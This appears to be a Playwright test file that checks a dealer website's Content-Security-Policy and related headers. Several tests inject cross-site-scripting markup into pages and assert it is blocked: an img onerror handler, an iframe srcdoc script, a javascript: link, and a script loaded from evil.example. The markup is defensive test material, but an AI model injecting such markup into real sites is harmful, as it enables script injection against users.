import { readFileSync } from 'node:fs'
import { loginOf, signInAt, vehicleSlug } from './arrange'
import { ask, expect, site, siteLogFile, takeRefused, test } from './fixtures'
import { goToPanel } from './go-to-panel'

// Injected markup often runs through the error handler of an image, so images have to load.
test.use({ images: true })

const group = 'banksia-motor-group'

const scriptSources = (policy: unknown): readonly string[] =>
  /script-src ([^;]+)/.exec(String(policy))?.[1]?.split(' ') ?? []

test('[SEC-03] every kind of page has a policy with the hashes of its scripts, without unsafe-inline', async () => {
  const car = await vehicleSlug(group, "v.status = 'in_stock'")
  const pages: readonly (readonly [string | undefined, string])[] = [
    [group, '/'],
    [group, `/cars/${car}`],
    [group, '/search/new-used-and-demo-cars/'],
    [group, '/search/new-used-and-demo-cars/?query=red'],
    [group, '/sign-in'],
    [group, '/nothing-here'],
    [undefined, '/'],
    [undefined, '/admin/login'],
    [undefined, '/admin/nothing-here'],
  ]
  for (const [slug, path] of pages) {
    // The first answer is rendered, the second may come from the cache.
    for (const { headers } of [await ask(slug, path), await ask(slug, path)]) {
      const sources = scriptSources(headers['content-security-policy'])
      expect(sources, path).toContain("'self'")
      expect(
        sources.filter((one) => /unsafe|\*|https?:$|nonce/.test(one)),
        path,
      ).toEqual([])
      expect(sources.filter((one) => one.startsWith("'sha256-")).length, path).toBeGreaterThan(1)
      expect(headers['permissions-policy'], path).toContain('camera=()')
      expect(headers['cross-origin-opener-policy'], path).toBe('same-origin-allow-popups')
    }
  }
})

test('[SEC-03] markup injected into a page runs no script, and the violation is in the site’s log', async ({
  page,
}) => {
  await page.goto(`${site(group)}/contact-us`, { waitUntil: 'networkidle' })
  const reported = page.waitForRequest('**/api/content-reports')
  const ran = await page.evaluate(async () => {
    const smuggled = `<img src="/nothing" onerror="window.smuggled = 'handler'">
      <iframe srcdoc="<script>parent.smuggled = 'frame'</script>"></iframe><a href="javascript:window.smuggled='link'">x</a>`
    document.body.insertAdjacentHTML('beforeend', smuggled)
    const over = [
      ['img[src="/nothing"]', 'error'],
      ['iframe[srcdoc]', 'load'],
    ] as const
    await Promise.all(
      over.map(
        ([which, event]) =>
          new Promise((resolve) => {
            document.querySelector(which)?.addEventListener(event, resolve)
          }),
      ),
    )
    const script = document.createElement('script')
    script.textContent = "window.smuggled = 'inline'"
    document.body.append(script)
    const foreign = document.createElement('script')
    const failed = new Promise((resolve) => {
      foreign.onerror = resolve
    })
    foreign.src = 'https://evil.example/x.js'
    document.body.append(foreign)
    await failed
    document.querySelector<HTMLAnchorElement>('a[href^="javascript:"]')?.click()
    // The link's script would run in a separate task.
    await new Promise((resolve) => {
      requestAnimationFrame(() => setTimeout(resolve))
    })
    return (window as Window & { smuggled?: string }).smuggled ?? 'nothing'
  })
  expect(ran).toBe('nothing')
  expect(takeRefused().length).toBeGreaterThanOrEqual(4)
  await reported
  await expect
    .poll(() => readFileSync(siteLogFile(), 'utf8'))
    .toContain(`on ${site(group)}/contact-us, at ${new URL(site(group)).host}`)
})

test('[SEC-03] injected markup runs no script in the panel either', async ({ page }) => {
  await signInAt(page, loginOf(group))
  await goToPanel(page)
  const ran = await page.evaluate(async () => {
    document.body.insertAdjacentHTML('beforeend', `<img src="/nothing" onerror="window.smuggled = 'handler'">`)
    // The image's inline handler would run before this listener.
    await new Promise((resolve) => {
      document.querySelector('img[src="/nothing"]')?.addEventListener('error', resolve)
    })
    return (window as Window & { smuggled?: string }).smuggled ?? 'nothing'
  })
  expect(ran).toBe('nothing')
  expect(takeRefused().length).toBeGreaterThan(0)
})

for (const encoding of ['br', 'gzip'])
  test(`[SEC-03] pages, cached or not, and texts are compressed as ${encoding} although they have a policy`, async () => {
    const asked = { headers: { 'accept-encoding': encoding } }
    for (const path of ['/', '/contact-us', '/sitemap-pages.xml', '/sign-in']) {
      const answers = [await ask(group, path, asked), await ask(group, path, asked)]
      expect(
        answers.map(({ headers }) => headers['content-encoding']),
        path,
      ).toEqual([encoding, encoding])
      for (const { headers } of answers) expect(headers.vary, path).toMatch(/accept-encoding/i)
    }
  })
